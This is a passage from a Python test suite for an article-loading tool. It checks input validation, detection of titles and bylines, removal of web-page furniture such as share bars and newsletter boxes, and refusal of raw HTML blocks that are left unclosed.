    assert "empty" in raises_input_error(write_file(name, b"  \n"))


@pytest.mark.parametrize(
    "content",
    [
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
        b"%PDF-1.4\n\x00\x01\x02binary",
        b"A Quiet Harbour\n\n" + b"\x00" * 4 + P1.encode(),
        "Title".encode("utf-16"),
    ],
    ids=["png", "pdf", "nul-in-text", "utf-16"],
)
def test_binary_file(write_file: WriteFile, content: bytes) -> None:
    message = raises_input_error(write_file("binary.txt", content))
    assert "binary" in message


@pytest.mark.parametrize(
    ("content", "line"),
    [
        ("Café de la Paix\n\nThe harbour café.\n".encode("latin-1"), 1),
        (f"{TITLE}\n\n{P1}\n\nThe harbour café was full.\n".encode("latin-1"), 5),
        (f"{TITLE}\r\n\r\n{P1}\r\nNaïve.\r\n".encode("cp1252"), 4),
        (f"---\ntitle: {TITLE}\n---\n{P1}\n\n“smart” quotes\n".encode("cp1252"), 6),
    ],
    ids=["latin1-line1", "latin1-line5", "cp1252-crlf", "cp1252-markdown"],
)
def test_non_utf8_names_the_line(write_file: WriteFile, content: bytes, line: int) -> None:
    name = "latin.md" if content.startswith(b"---") else "latin.txt"
    message = raises_input_error(write_file(name, content))
    assert f"line {line} " in message
    assert "UTF-8" in message


@pytest.mark.parametrize(
    "name", ["article.docx", "article.pdf", "article.html", "article", "README", "a.txt.bak"]
)
def test_unknown_extension(write_file: WriteFile, name: str) -> None:
    message = raises_input_error(write_file(name, f"{TITLE}\n\n{P1}\n"))
    assert ".txt" in message, "the message lists the known types"
    assert ".md" in message, "the message lists the known types"


def test_directory(tmp_path: Path) -> None:
    folder = tmp_path / "issue.txt"
    folder.mkdir()
    assert "folder" in raises_input_error(folder)


@pytest.mark.parametrize(
    "front_matter",
    [
        "---\ntitle: [unclosed\n---\n",
        "---\ntitle: a: b: c\n---\n",
        "---\ntitle: ok\n  bad indent: x\n---\n",
        '---\ntitle: "unterminated\n---\n',
    ],
    ids=["unclosed-list", "nested-colons", "bad-indent", "unterminated-string"],
)
def test_bad_yaml_front_matter(write_file: WriteFile, front_matter: str) -> None:
    message = raises_input_error(write_file("bad.md", front_matter + f"{P1}\n"))
    assert "YAML" in message


@pytest.mark.parametrize(
    "content",
    [
        f"{P1}\n",
        f"## A second-level heading\n\n{P1}\n",
        f"---\nsubject: No title key\n---\n{P1}\n",
        f"---\ntitle: ''\n---\n{P1}\n",
        f"---\ntitle:\n---\n{P1}\n",
    ],
    ids=["no-heading", "h2-only", "front-matter-without-title", "empty-title", "null-title"],
)
def test_markdown_without_title(write_file: WriteFile, content: str) -> None:
    message = raises_input_error(write_file("untitled.md", content))
    assert "title" in message


def test_plain_text_with_only_leftovers(write_file: WriteFile) -> None:
    message = raises_input_error(write_file("leftovers.txt", "Share on\n\nSubscribe to our newsletter\n"))
    assert "leftover" in message


# --- Shapes found by a new-user QA pass -------------------------------------------------------

WEB_TAIL = (
    "Share this:\nFacebook\nTwitter\nLinkedIn\n\nRelated articles\nThe Balkans after the gas crisis\n"
    "Why Skopje matters to Brussels\n\nSubscribe to our newsletter\n"
    "© 2024 Example Foundation. All rights reserved.\n"
)


@pytest.mark.parametrize(
    "tail",
    [
        WEB_TAIL,
        "Share on\nFacebook\nLinkedIn\n\nRelated articles\nA first headline\nA second headline\n",
        "Subscribe to our newsletter\n\nPrivacy policy | Cookie settings\n",
        "Поделиться\n",
    ],
)
def test_web_page_tail_with_headlines_and_copyright_is_dropped(write_file: WriteFile, tail: str) -> None:
    a = load(write_file, "tail.txt", f"{TITLE}\n\n{P1}\n{P2}\n\n{tail}")
    assert a.paragraphs == [P1, P2]
    for junk in ("Share", "Related", "headline", "©", "Privacy", "Поделиться"):
        assert junk not in a.body_text


def test_lines_of_one_block_split_into_paragraph_heading_list_and_paragraph(write_file: WriteFile) -> None:
    a = load(
        write_file,
        "mixed.txt",
        "A note from the Secretary General\n"
        "Dear friends, this year the Foundation celebrates its twentieth year with events "
        "in Rome and Brussels.\n"
        "Our programme for the autumn\n1. A conference on the Black Sea, 14 October\n"
        "2. A round table on the Sahel, 3 November\n3. The annual gala dinner, 12 December\n"
        "We look forward to seeing you there. Warm regards, and see you soon.\n",
    )
    assert [b.kind for b in a.blocks] == ["paragraph", "heading", "list", "list", "list", "paragraph"]
    assert "<li>The annual gala dinner, 12 December</li>" in a.body_html


def test_indented_lines_continue_a_list_item(write_file: WriteFile) -> None:
    a = load(
        write_file,
        "cont.txt",
        f"{TITLE}\n\n{P1}\n\n- a relief fund for the\n  families of the crews\n- training\n",
    )
    assert "<li>a relief fund for the families of the crews</li>" in a.body_html


@pytest.mark.parametrize(
    ("head", "author", "date"),
    [
        ("Interview by Sara Bianchi\n24 April 2024\n", "Sara Bianchi", "24 April 2024"),
        ("Author: Jane Doe\n", "Jane Doe", ""),
    ],
)
def test_bylines_with_a_label(write_file: WriteFile, head: str, author: str, date: str) -> None:
    a = load(write_file, "by.txt", f"{TITLE}\n{head}\n{P1}\n")
    assert (a.author, a.date, a.paragraphs) == (author, date, [P1])


def test_a_date_above_the_title(write_file: WriteFile) -> None:
    a = load(write_file, "dated.txt", f"12 March 2024\n{TITLE}\nBy Jane Doe\n\n{P1}\n")
    assert (a.title, a.date, a.author) == (TITLE, "12 March 2024", "Jane Doe")


def test_a_line_that_is_one_quotation_becomes_a_pull_quote(write_file: WriteFile) -> None:
    a = load(
        write_file,
        "pull.txt",
        f"{TITLE}\n\n{P1}\n“Security is a shared responsibility.” — Jane Doe, Director\n"
        f"“We will not yield,” the minister said, and left.\n{P2}\n",
    )
    assert [b.kind for b in a.blocks] == ["paragraph", "quote", "quote", "paragraph", "paragraph"]
    assert (
        "<blockquote>\n<p>“Security is a shared responsibility.”</p>\n<p>— Jane Doe, Director</p>"
        in a.body_html
    )
    assert "<p>“We will not yield,” the minister said, and left.</p>" in a.body_html


@pytest.mark.parametrize(
    ("head", "kicker", "title"),
    [
        (
            "University News\n\nResearchers map an old olive tree\n",
            "University News",
            "Researchers map an old olive tree",
        ),
        (
            "FOR IMMEDIATE RELEASE\nClean water reaches 40 villages\n",
            "FOR IMMEDIATE RELEASE",
            "Clean water reaches 40 villages",
        ),
        (
            "NGO Update — Spring 2024\nClean water reaches 40 villages\n",
            "NGO Update — Spring 2024",
            "Clean water reaches 40 villages",
        ),
        ("A Quiet Harbour\nThe fleet returns\n", "", "A Quiet Harbour"),
    ],
)
def test_a_label_above_the_headline_is_a_kicker_not_the_title(
    write_file: WriteFile, head: str, kicker: str, title: str
) -> None:
    a = load(write_file, "kicker.txt", f"{head}\n{P1}\n")
    assert (a.kicker, a.title) == (kicker, title)


@pytest.mark.parametrize(
    ("lines", "author", "byline", "date"),
    [
        ("Posted on 2 April 2024 by Field Team\n", "Field Team", "", "2 April 2024"),
        (
            "Dr. Aiko Tanaka, Plant Sciences\nPublished: 5 May 2024 · 4 min read\n",
            "Dr. Aiko Tanaka, Plant Sciences",
            "",
            "5 May 2024",
        ),
        ("Автор: Анна Петрова\n12 March 2024\n", "Анна Петрова", "Автор: Анна Петрова", "12 March 2024"),
    ],
)
def test_bylines_and_datelines_in_other_shapes(
    write_file: WriteFile, lines: str, author: str, byline: str, date: str
) -> None:
    a = load(write_file, "by2.txt", f"{TITLE}\n{lines}\n{P1}\n")
    assert (a.author, a.byline, a.date, a.paragraphs) == (author, byline, date, [P1])


def test_captions_footnotes_quotes_lettered_lists_and_signatures(write_file: WriteFile) -> None:
    a = load(
        write_file,
        "shapes.txt",
        f"{TITLE}\n\n{P1}\n[Photo: The harbour at dawn. Credit: Example Photo Agency]\n{P2}\n\n"
        "Footnotes\n[1] IEA, Gas Market Report, 2024.\n[2] Interview with the author, March 2024.\n\n"
        '> "Observers are the eyes of the public." - Electoral Commission\n> guidance, 2023\n\n'
        "Options:\n  a) first option\n  b) second option\n\nThanks,\nJo Bloggs\nVolunteer Coordinator\n\n"
        "--\nYou are receiving this because you signed up at example.org.\n"
        "Unsubscribe | Update preferences | View in browser\n",
    )
    kinds = [(b.kind, b.text) for b in a.blocks]
    assert ("paragraph", "[Photo: The harbour at dawn. Credit: Example Photo Agency]") in kinds
    assert ("paragraph", "[1] IEA, Gas Market Report, 2024.") in kinds
    assert [k for k, t in kinds if k == "quote"] == ["quote"]  # one blockquote, joined
    assert ("list", "a) first option") in kinds
    assert ("paragraph", "Volunteer Coordinator") in kinds  # a signature line, not a heading
    assert "<h2>" not in a.body_html
    for junk in ("You are receiving", "Update preferences", "View in browser"):
        assert junk not in a.body_text


def test_a_one_line_share_bar_and_end_marks_are_dropped(write_file: WriteFile) -> None:
    a = load(
        write_file,
        "bar.txt",
        f"{TITLE}\n\n{P1}\n\nShare on Twitter Share on Facebook Share on LinkedIn\n"
        "Subscribe to our newsletter for more\nCookie policy\n###\n",
    )
    assert a.paragraphs == [P1]


# --- Ordinary articles a review found mangled by over-eager rules --------------------------------

LONG_1 = (
    "The city council approved a £2.4m plan on Tuesday to build protected cycle lanes along the "
    "length of Mill Road, after two years of consultation."
)


@pytest.mark.parametrize(
    ("text", "title", "author", "first", "last"),
    [
        (  # a headline with "news" in it is a headline, and the line under it its standfirst
            "Good news for cyclists\nNew lanes open on Mill Road next month\n\n"
            "By Priya Shah\n12 March 2024\n\n"
            f"{LONG_1}\n“We will not let this drag on,” said councillor Ann Lee. “Work starts in April.”\n",
            "Good news for cyclists",
            "Priya Shah",
            LONG_1,
            "“We will not let this drag on,” said councillor Ann Lee. “Work starts in April.”",
        ),
        (  # capitals followed by a hard-wrapped paragraph: a headline, not a kicker
            "COUNCIL APPROVES NEW BUDGET FOR 2025\nThe city council on Tuesday approved a budget of 412 "
            "million euros for\nnext year, after a six-hour debate that ran past midnight. The budget\n"
            "raises spending on schools by 4 percent and cuts the roads programme.\n",
            "COUNCIL APPROVES NEW BUDGET FOR 2025",
            "",
            "The city council on Tuesday approved a budget of 412 million euros for next year, after a "
            "six-hour debate that ran past midnight. The budget raises spending on schools by 4 percent "
            "and cuts the roads programme.",
            None,
        ),
        (  # a lead paragraph that starts like a byline is body text
            f"Inflation falls again\n\nUpdated figures released on Monday by the Office for National "
            f"Statistics show that inflation fell to 2.1 percent in April.\n{LONG_1}\n",
            "Inflation falls again",
            "",
            "Updated figures released on Monday by the Office for National Statistics show that inflation "
            "fell to 2.1 percent in April.",
            LONG_1,
        ),
        (  # a closing call to action and a sign-off are the author's, not web-page furniture
            f"Volunteers needed\n\nDear members,\n\n{LONG_1}\n\nSign up at the front desk or reply to this "
            "email.\n\nThanks,\nJo Bloggs\nVolunteer Coordinator\n",
            "Volunteers needed",
            "",
            "Dear members,",
            "Volunteer Coordinator",
        ),
        (  # a list straight under the title is body, and a sentence after it is not an item
            "What to bring\n\n- a packed lunch\n- water\nWe meet at the car park at 9am.\n",
            "What to bring",
            "",
            "a packed lunch",
            "We meet at the car park at 9am.",
        ),
        (  # a quoted headline with its byline: no motto
            "“We are not going anywhere”\nBy Tom Reed\n\n" + LONG_1 + "\n",
            "“We are not going anywhere”",
            "Tom Reed",
            LONG_1,
            None,
        ),
        (  # "Cookies" is a bake-sale section, "--" an author's separator
            f"Bake sale\n\n{LONG_1}\n\nCookies\nOat and raisin, 50p each.\n\n--\n\nSee you there!\n",
            "Bake sale",
            "",
            LONG_1,
            "See you there!",
        ),
    ],
    ids=["news-headline", "capitals", "updated-lead", "sign-off", "list-first", "quoted-headline", "cookies"],
)
def test_ordinary_articles_keep_their_shape(
    write_file: WriteFile, text: str, title: str, author: str, first: str, last: str | None
) -> None:
    a = load(write_file, "ordinary.txt", text)
    assert (a.title, a.author, a.motto) == (title, author, "")
    texts = [b.text for b in a.blocks]
    assert texts[0] == first
    if last is not None:
        assert texts[-1] == last


@pytest.mark.parametrize(
    "raw",
    ["<style>", "<script>", "<textarea>", "<pre>", "<!-- a note", "<?php", "<!DOCTYPE html", "<![CDATA["],
)
def test_raw_html_left_open_is_refused_not_allowed_to_swallow_the_rest(
    write_file: WriteFile, raw: str
) -> None:
    """CommonMark runs these raw HTML blocks to their closing marker, or to the end of the file:
    the sanitiser would then drop every paragraph after the stray line, silently."""
    path = write_file("open.md", f"# T\n\nFirst para.\n\n{raw}\n\nSecond para, which must not vanish.\n")
    with pytest.raises(InputError) as caught:
        load_article(path)
    assert str(caught.value).startswith(f"{path}: the raw HTML {raw!r} is never closed")
    assert caught.value.exit_code == ExitCode.BAD_INPUT


@pytest.mark.parametrize(
    "raw", ["<style>p { color: red }</style>", "<!-- a note -->", "<pre>\ncode\n</pre>", "<!-- a\nnote -->"]
)
def test_raw_html_closed_keeps_everything_after_it(write_file: WriteFile, raw: str) -> None:
    article = load(write_file, "closed.md", f"# T\n\nFirst para.\n\n{raw}\n\nSecond para stays.\n")
    assert "Second para stays." in article.body_html
    assert "Second para stays." in article.body_text


def test_front_matter_never_closed_is_named_as_such(write_file: WriteFile) -> None:
    message = raises_input_error(write_file("open.md", "---\ntitle: X\n\nBody text.\n"))
    assert "front matter opened on line 1 is never closed" in message


@pytest.mark.parametrize(
    "block",
    [
        "Share on\nTwitter\nFacebook",
        "Share on\n\nTwitter\n\nLinkedIn\n\nPrint",
        "Related articles\nIraq's election: what to know\nThe militias and the state",
        "Related:\n\nIraq's election: what to know\n\nThe militias and the state",
        "Read more\nhttps://example.org/news/iraq-election\nThe militias and the state",
        "You may also like\nIraq's election: what to know",
        "Lire aussi\nLes milices et l'État",
    ],
)
def test_web_page_boxes_in_the_middle_of_a_plain_text_article_go_with_their_label(
    write_file: WriteFile, article: Path, block: str
) -> None:
    """A copy of a web page can carry its share bar or a "Related articles" box between two
    paragraphs: the label went, and the buttons or headlines under it stayed as paragraphs."""
    paragraphs = article.read_text(encoding="utf-8").split("\n\n")
    middle = len(paragraphs) // 2
    text = "\n\n".join([*paragraphs[:middle], block, *paragraphs[middle:]])
    plain = load_article(article)
    boxed = load(write_file, "boxed.txt", text)
    assert boxed.body_text == plain.body_text
    assert boxed.body_html == plain.body_html


def test_a_sentence_after_a_related_label_is_the_authors_and_stays(write_file: WriteFile) -> None:
    a = load(write_file, "kept.txt", f"{TITLE}\n\n{P1}\n\nRelated\nThe vote went ahead as planned.\n\n{P2}\n")
    assert a.paragraphs == [P1, "The vote went ahead as planned.", P2]
